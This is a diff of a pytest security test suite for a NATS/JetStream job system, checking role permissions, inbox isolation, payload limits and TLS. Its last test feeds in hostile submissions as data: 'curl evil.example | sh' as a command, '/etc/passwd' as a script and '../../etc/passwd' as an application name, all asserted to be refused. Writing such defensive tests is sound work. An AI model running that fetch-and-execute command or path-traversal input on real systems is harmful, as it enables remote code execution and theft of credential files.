@@ -38,6 +38,7 @@ async def connect(url: str, role: str, errors: list[Exception] | None = None, **
         if errors is not None:
             errors.append(error)
 
+    options.setdefault("inbox_prefix", permissions.inbox_prefix(role))
     return await Bus.connect(url, f"test-{role}", user=role, password=PASSWORDS[role], error_cb=collect,
                              allow_reconnect=False, max_reconnect_attempts=1, **options)
 
@@ -99,14 +100,18 @@ async def test_user_submission_is_stored_in_jetstream(secured: str) -> None:
     from cli.submit import submit
 
     spec = JobSpec(id="secure-job-1", application="cifar10")
-    assert await submit(spec, secured, user="user", password=PASSWORDS["user"])
-    assert not await submit(spec, secured, user="user", password=PASSWORDS["user"])   # de-duplicated
-    reader = await connect(secured, "profiler")
+    as_user = credentials.connect_options(environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": PASSWORDS["user"]})
+    assert await submit(spec, secured, **as_user)
+    assert not await submit(spec, secured, **as_user)   # de-duplicated
+    reader = await connect(secured, "profiler")     # as the profiler reads it: its durable consumer
     try:
         info = await reader.js.stream_info(subjects.JOBS_STREAM)
         assert info.state.messages == 1
-        stored = await reader.js.get_last_msg(subjects.JOBS_STREAM, subjects.SUBMIT)
-        assert reader.decode(stored.data, JobSpec) == spec
+        consumer = await reader.pull_consumer(subjects.JOBS_STREAM, subjects.PROFILER_CONSUMER, subjects.SUBMIT,
+                                              JobSpec)
+        [delivery] = await consumer.fetch(1, timeout=2)
+        assert delivery.message == spec
+        await delivery.ack()
     finally:
         await reader.close()
 
@@ -125,11 +130,107 @@ async def test_user_cannot_delete_the_submissions_stream(secured: str) -> None:
 async def test_message_over_the_size_limit_is_refused(secured: str) -> None:
     user = await connect(secured, "user")
     try:
-        assert user.nc.max_payload == permissions.MAX_PAYLOAD_BYTES
-        with pytest.raises(nats.errors.MaxPayloadError):
+        assert user.nc.max_payload == permissions.MAX_PAYLOAD_BYTES      # the server's max_payload, told at connect
+        with pytest.raises(nats.errors.MaxPayloadError, match="maximum payload exceeded"):
             await user.nc.publish(subjects.SUBMIT, b"x" * (permissions.MAX_PAYLOAD_BYTES + 1))
+        await user.nc.publish(subjects.SUBMIT, b"x" * 16)                 # the connection carries on
+        await user.flush()
     finally:
         await user.close()
+
+
+async def test_a_role_cannot_subscribe_to_another_roles_inbox(secured: str) -> None:
+    """Replies travel on each role's own inboxes: the policy's placement reply reaches the policy,
+    while a user's subscriptions to the policy's inboxes, or to every inbox, are refused."""
+    placer = await connect(secured, "placer")
+
+    async def answer(msg) -> None:
+        await msg.respond(b"placed")
+
+    await placer.nc.subscribe(subjects.PLACE, cb=answer)
+    await placer.flush()
+    errors: list[Exception] = []
+    spy = await connect(secured, "user", errors)
+    overheard: list[str] = []
+
+    async def overhear(msg) -> None:
+        overheard.append(msg.subject)
+
+    policy = await connect(secured, "policy")
+    try:
+        for inbox in (f"{permissions.inbox_prefix('policy')}.>", "_INBOX.>"):
+            await spy.nc.subscribe(inbox, cb=overhear)
+        await spy.flush()
+        reply = await policy.nc.request(subjects.PLACE, b"", timeout=2)
+        assert reply.data == b"placed" and reply.subject.startswith("_INBOX_policy.")
+        await spy.flush()
+    finally:
+        for bus in (policy, spy, placer):
+            await bus.close()
+    assert overheard == []
+    text = " ".join(str(error) for error in errors).lower()
+    for inbox in ("_inbox_policy.>", "_inbox.>"):
+        assert f'permissions violation for subscription to "{inbox}"' in text, errors
+
+
+async def test_a_service_may_answer_a_request_in_several_parts(secured: str) -> None:
+    """A body over max_payload is answered in parts on the one reply subject (shared/bus.py): the
+    responder may publish there more than once, and nowhere else."""
+    placer = await connect(secured, "placer")
+    errors: list[Exception] = []
+
+    async def answer(msg) -> None:
+        for part in range(3):
+            await placer.nc.publish(msg.reply, f"part {part}".encode())
+
+    await placer.nc.subscribe(subjects.PLACE, cb=answer)
+    await placer.flush()
+    policy = await connect(secured, "policy", errors)
+    try:
+        inbox = f"{permissions.inbox_prefix('policy')}.parts"
+        parts = await policy.nc.subscribe(inbox)
+        await policy.flush()
+        await policy.nc.publish(subjects.PLACE, b"", reply=inbox)
+        assert [(await parts.next_msg(timeout=2)).data for _ in range(3)] == [b"part 0", b"part 1", b"part 2"]
+    finally:
+        await policy.close()
+        await placer.close()
+    assert not errors
+
+
+async def refused_request(url: str, role: str, call) -> str:
+    """Run `call(bus)` as `role`, expecting the server to refuse it; the errors it reported, lower-case."""
+    errors: list[Exception] = []
+    bus = await connect(url, role, errors)
+    try:
+        with pytest.raises((nats.errors.TimeoutError, nats.errors.NoRespondersError)):
+            await call(bus)
+        await bus.flush()
+    finally:
+        await bus.close()
+    return " ".join(str(error) for error in errors).lower()
+
+
+@pytest.mark.parametrize("role, call, subject", [
+    ("estimator", lambda bus: bus.nc.jetstream(timeout=0.5).key_value(subjects.RUNS_BUCKET),
+     f"$JS.API.STREAM.INFO.KV_{subjects.RUNS_BUCKET}"),
+    ("profiler", lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.JOBS_STREAM),
+     f"$JS.API.STREAM.DELETE.{subjects.JOBS_STREAM}"),
+    ("profiler", lambda bus: bus.nc.jetstream(timeout=0.5).consumer_info(subjects.JOBS_STREAM, "executor"),
+     f"$JS.API.CONSUMER.INFO.{subjects.JOBS_STREAM}.executor"),
+    ("placer", lambda bus: bus.nc.jetstream(timeout=0.5).account_info(), "$JS.API.INFO"),
+    ("operator", lambda bus: bus.nc.jetstream(timeout=0.5).delete_stream(subjects.RUN_LOG_STREAM),
+     f"$JS.API.STREAM.DELETE.{subjects.RUN_LOG_STREAM}"),
+])
+async def test_jetstream_is_granted_per_stream_consumer_and_bucket(secured: str, role, call, subject) -> None:
+    text = await refused_request(secured, role, call)
+    assert f'permissions violation for publish to "{subject.lower()}"' in text, text
+
+
+async def test_a_service_cannot_write_another_services_bucket(secured: str) -> None:
+    assert_violation(await refused_publish(secured, "estimator", f"$KV.{subjects.RUNS_BUCKET}.live",
+                                           ApplyRequest(now_s=0.0, placements={}, models={}, adaptive=False)),
+                     f"$KV.{subjects.RUNS_BUCKET}.live")
 
 
 async def test_wrong_password_is_refused_with_a_clear_error(secured: str) -> None:
@@ -151,9 +252,11 @@ def test_service_with_a_password_file_connects_and_answers_ping(secured: str, tm
                                 "--nats-user", "placer"], cwd=ROOT, env=env,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
     try:
-        # The probe's URL carries the user role's credentials: a user may ping services.
+        # The probe's URL carries the user role's credentials (a user may ping services); its
+        # replies come back on the user role's inboxes.
         host = secured.removeprefix("nats://")
-        answer = asyncio.run(ping_until_ready(process, f"nats://user:{PASSWORDS['user']}@{host}"))
+        answer = asyncio.run(ping_until_ready(process, f"nats://user:{PASSWORDS['user']}@{host}",
+                                              inbox_prefix=permissions.inbox_prefix("user")))
         assert answer["name"] == "placer"
     finally:
         process.terminate()
@@ -161,11 +264,11 @@ def test_service_with_a_password_file_connects_and_answers_ping(secured: str, tm
     assert "ready" in output, output
 
 
-async def ping_until_ready(process: subprocess.Popen, server: str, timeout_s: float = 30.0) -> dict:
+async def ping_until_ready(process: subprocess.Popen, server: str, timeout_s: float = 30.0, **options) -> dict:
     deadline = asyncio.get_running_loop().time() + timeout_s
     while True:
         try:
-            return await ping("placer", server, timeout_s=1.0)
+            return await ping("placer", server, timeout_s=1.0, **options)
         except ProbeFailed as failure:
             if failure.code != EXIT_NO_ANSWER or process.poll() is not None \
                     or asyncio.get_running_loop().time() > deadline:
@@ -186,9 +289,11 @@ def test_connect_options(tmp_path: Path) -> None:
     secret = tmp_path / "password"
     secret.write_text("s3cret\n")
     assert credentials.connect_options(credentials.Credentials(user="user", password_file=str(secret)),
-                                       environ={}) == {"user": "user", "password": "s3cret"}
-    assert credentials.connect_options(environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": "p"}) == {
-        "user": "user", "password": "p"}
+                                       environ={}) == {"user": "user", "password": "s3cret",
+                                                       "inbox_prefix": "_INBOX_user"}
+    assert credentials.connect_options(environ={"GOODPUT_NATS_USER": "user", "GOODPUT_NATS_PASSWORD": "p",
+                                                "GOODPUT_NATS_INBOX_PREFIX": "_INBOX_mine"}) == {
+        "user": "user", "password": "p", "inbox_prefix": "_INBOX_mine"}
     assert credentials.connect_options(environ={}) == {}
     with pytest.raises(ValueError, match="needs a password"):
         credentials.connect_options(credentials.Credentials(user="user"), environ={})
@@ -217,8 +322,12 @@ def test_permission_table() -> None:
             assert not allocations & set(allowed.publish), role
             assert not any(subject.startswith("goodput.") and subject.endswith(">") for subject in allowed.publish)
     user = permissions.ROLES["user"]
-    assert set(user.subscribe) == {"_INBOX.>"} and not user.allow_responses
-    assert subjects.SUBMIT in user.publish and "$JS.API.>" not in user.publish
+    assert set(user.subscribe) == {"_INBOX_user.>"} and not user.allow_responses
+    assert subjects.SUBMIT in user.publish
+    for role, allowed in permissions.ROLES.items():
+        # no role holds the whole JetStream API or anyone's inboxes but its own
+        assert not {"$JS.API.>", "$JS.ACK.>", "_INBOX.>", ">"} & set(allowed.publish + allowed.subscribe), role
+        assert [s for s in allowed.subscribe if s.startswith("_INBOX")] == [f"_INBOX_{role}.>"], role
 
 
 def test_rendered_config_is_valid_for_nats_server(tmp_path: Path) -> None:
@@ -312,3 +421,55 @@ async def test_tls_with_a_ca_file(tmp_path: Path) -> None:
         with pytest.raises(Exception, match="(?i)certificate verify failed"):
             await Bus.connect(url, "test-untrusted", allow_reconnect=False, max_reconnect_attempts=1,
                               error_cb=_ignore, **untrusted)
+
+
+async def test_submissions_carrying_commands_or_paths_are_refused_with_the_reason(tmp_path: Path) -> None:
+    """A JobSpec names the job's code by `application` and has no field for a command or a file: a
+    submission with one is refused by the profiler, the reason on the dead-letter subject, and the
+    profiler goes on to profile the next good submission. (Its own server: it reads every dead letter.)"""
+    from deploy.stack import Stack, service_arguments
+    from shared.schema import Ack, Count, Rejected
+
+    bad = {"bad-command": {"id": "bad-command", "application": "cifar10", "command": "curl evil.example | sh"},
+           "bad-script": {"id": "bad-script", "application": "cifar10", "script": "/etc/passwd"},
+           "bad-application": {"id": "bad-application", "application": "../../etc/passwd"}}
+    arguments = service_arguments("sia-hetero-64", None, True, None, 1, None)
+    commands = {}
+    for service in ("profiler", "estimator"):
+        password_file = tmp_path / f"{service}.password"
+        password_file.write_text(PASSWORDS[service])
+        commands[service] = [sys.executable, "-m", f"services.{service}", *arguments[service],
+                             "--nats-user", service, "--nats-password-file", str(password_file)]
+    (tmp_path / "nats").mkdir()
+    with nats_from_binary(tmp_path / "nats", config=permissions.render_server_config(PASSWORDS)) as url:
+        stack = Stack({name: [*command, "--server", url] for name, command in commands.items()}, tmp_path)
+        for name in commands:
+            stack.start(name)
+        user, operator = await connect(url, "user"), await connect(url, "operator")
+        try:
+            await asyncio.wait_for(stack.wait_ready(operator), 60)
+            for payload in bad.values():
+                await user.js_publish(subjects.SUBMIT, payload, msg_id=payload["id"])
+            await user.js_publish(subjects.SUBMIT, JobSpec(id="good-after", application="cifar10"), msg_id="good-after")
+            rejected: list[Rejected] = []
+            async for record in operator.follow(subjects.REJECTED, Rejected, idle_timeout=30):
+                rejected.append(record)
+                if len(rejected) == len(bad):
+                    break
+            for _ in range(100):                      # the good one is profiled: its estimate is stored
+                if (await user.request(subjects.ESTIMATOR_STATUS, Ack(), Count, timeout=5)).n == 1:
+                    break
+                await asyncio.sleep(0.1)
+            assert (await user.request(subjects.ESTIMATOR_STATUS, Ack(), Count, timeout=5)).n == 1
+            logs = {name: stack.log(name) for name in commands}      # before the stop, which logs its own
+        finally:
+            await user.close()
+            await operator.close()
+            stack.stop()
+    reasons = {next(job for job in bad if job in r.payload): r for r in rejected}
+    assert set(reasons) == set(bad), rejected
+    assert all(r.subject == subjects.SUBMIT for r in rejected)
+    assert "unknown field `command`" in reasons["bad-command"].reason
+    assert "unknown field `script`" in reasons["bad-script"].reason
+    assert "$.application" in reasons["bad-application"].reason
+    assert "Traceback" not in logs["profiler"], logs["profiler"]
